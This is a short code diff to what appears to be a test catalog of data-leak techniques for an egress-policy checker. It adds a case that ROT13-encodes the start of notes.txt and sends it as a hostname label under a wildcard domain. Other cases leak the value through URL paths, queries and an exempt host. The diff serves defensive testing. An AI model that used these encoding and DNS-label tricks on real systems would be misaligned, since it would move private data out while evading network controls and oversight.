@@ -160,7 +160,11 @@ KNOWN = (
     Leak(
         LABEL,
         f"http(whole(path=SEEN, host=VALUE + '.{BELOW}'), VALUE + '.{BELOW}')",
-        "the name is resolved before there is a request; allow single names where this matters",
+    ),
+    Leak(
+        "encrypted-label-below-a-wildcard",
+        f"http(whole(path=SEEN, host=turned + '.{BELOW}'), turned + '.{BELOW}')",
+        "a name is a text like any other",
     ),
     Leak("exempt-host", f"https(whole(path=SEEN + '?' + VALUE, host={EXEMPT!r}), {EXEMPT!r})", "policy exempts it"),
 )
@@ -212,6 +216,7 @@ import io, string, subprocess, zipfile
 VALUE = open("notes.txt").read()
 SHAPES = { ({name: shape for name, (shape, _) in SHAPES.items()})!r}
 ROT13 = str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])
+turned = VALUE[:20].translate(ROT13)
 
 def zipped(text):
     file = io.BytesIO()
